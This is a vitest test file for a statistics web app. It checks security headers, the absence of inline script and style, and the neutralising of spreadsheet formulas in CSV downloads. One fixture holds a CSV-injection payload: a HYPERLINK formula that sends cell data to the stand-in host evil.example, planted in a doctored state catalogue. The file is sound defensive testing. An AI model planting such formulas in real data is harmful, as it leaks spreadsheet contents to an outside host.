/**
 * The security headers on every kind of response (pages, the stylesheet, API answers, downloads, SVG
 * files and errors), and CSV downloads that cannot carry a spreadsheet formula: a state renamed
 * `=HYPERLINK(…)` in an uploaded INEGI catalogue comes out of `/explore.csv` as text.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadBuiltins } from '../../src/records/builtin.js';
import { openRecords, type RecordsStore } from '../../src/records/database.js';
import { createApp } from '../../src/server/app.js';
import { importFile } from '../../src/stats/importer.js';
import { sourceById } from '../../src/stats/sources/index.js';
import { openStats, type StatsStore } from '../../src/stats/stats-store.js';
import { STYLESHEET_PATH } from '../../src/web/style.js';
import { sharedFile, sharedLines } from '../stats/shared-data.js';

const STATES = sharedFile('geo/cve_nom_estados.csv');
const HOMICIDES = sharedFile('inegi/mexico-state-month-homicide-rates-2000-2022.csv');
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Chihuahua")';

(STATES && HOMICIDES ? describe : describe.skip)('security headers and CSV cells', () => {
  let dir: string;
  let stats: StatsStore;
  let records: RecordsStore;
  let app: ReturnType<typeof createApp>;

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'marco-headers-'));
    const lines = await sharedLines(STATES!);
    // Chihuahua (08) renamed to a formula, as a doctored catalogue would.
    const doctored = lines.map((l) => (l.endsWith(',08') ? `"${FORMULA.replaceAll('"', '""')}",08` : l));
    await writeFile(path.join(dir, 'states.csv'), `${doctored.join('\n')}\n`);
    stats = await openStats({ dataDir: dir });
    await importFile(stats, sourceById('inegi-homicides-state')!, HOMICIDES!, { version: 'test' });
    await importFile(stats, sourceById('inegi-geo-catalog')!, path.join(dir, 'states.csv'), {
      version: 'test',
    });
    records = await openRecords({ memory: true });
    await loadBuiltins(records, 'test');
    app = createApp({ store: records, stats });
  }, 120_000);
  afterAll(async () => {
    stats?.close();
    await records?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const RESPONSES: [string, number, RegExp][] = [
    ['/?lang=es', 200, /^text\/html/],
    ['/explore?measure=homicides&level=state&by=year&from=2018&to=2019', 200, /^text\/html/],
    [STYLESHEET_PATH, 200, /^text\/css/],
    ['/explore.csv?measure=homicides&level=state&by=year&from=2018&to=2019', 200, /^text\/csv/],
    ['/api/v1/frameworks', 200, /^application\/json/],
    ['/api/v1/openapi.json', 200, /^application\/json/],
    ['/api/v1/series?measure=homicides&level=state&by=year&from=2019&to=2019', 200, /^application\/json/],
    ['/api/v1/series?measure=nope', 400, /^application\/problem\+json/],
    ['/api/v1/results', 200, /^application\/json/],
    ['/api/v1/programs/NO-SUCH', 404, /^application\/problem\+json/],
    ['/no/such/page', 404, /^text\/html/],
  ];

  it.each(RESPONSES)('%s carries the security headers', async (url, status, type) => {
    const res = await app.request(url);
    expect(res.status).toBe(status);
    expect(res.headers.get('content-type')).toMatch(type);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("script-src 'none'");
    expect(csp).toContain("style-src 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("base-uri 'none'");
    expect(csp).toContain("form-action 'self'");
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('referrer-policy')).toBe('same-origin');
    // Plain HTTP: no HSTS, which a browser would ignore anyway.
    expect(res.headers.get('strict-transport-security')).toBeNull();
  });

  it('adds HSTS to a response served over TLS, errors included', async () => {
    for (const url of ['https://marco.example/', 'https://marco.example/api/v1/programs/NO-SUCH']) {
      const res = await app.request(url);
      expect(res.headers.get('strict-transport-security')).toBe('max-age=31536000; includeSubDomains');
    }
  });

  it('pages hold no inline script, no inline style and no style attribute', async () => {
    for (const url of [
      '/?lang=en',
      '/explore?measure=homicides&level=state&by=year&from=2018&to=2019',
      '/places/08',
    ]) {
      const body = await (await app.request(url)).text();
      expect(body).not.toMatch(/<script|<style|\sstyle="|\son[a-z]+=/i);
      expect(body).toContain(`<link rel="stylesheet" href="${STYLESHEET_PATH}" />`);
    }
  });

  it('writes a formula taken from a place name as text in the CSV download', async () => {
    const csv = await (
      await app.request('/explore.csv?measure=homicides&level=state&by=year&from=2019&to=2019')
    ).text();
    const chihuahua = csv.split('\n').find((l) => l.includes('HYPERLINK'));
    expect(chihuahua).toBeDefined();
    // Quoted, with the formula behind a leading apostrophe: no spreadsheet evaluates it.
    expect(chihuahua).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
